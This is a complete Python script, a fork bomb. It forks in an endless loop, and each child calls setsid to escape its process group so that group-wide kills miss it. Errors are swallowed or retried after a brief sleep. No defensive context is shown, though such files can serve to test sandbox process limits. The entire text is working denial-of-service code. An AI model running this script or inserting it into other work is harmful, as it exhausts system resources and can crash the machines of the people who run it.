"""Fork without end; every child tries to leave the process group and keeps forking."""

import contextlib
import os
import time

while True:
    try:
        if os.fork() == 0:
            with contextlib.suppress(OSError):
                os.setsid()
    except OSError:
        time.sleep(0.001)
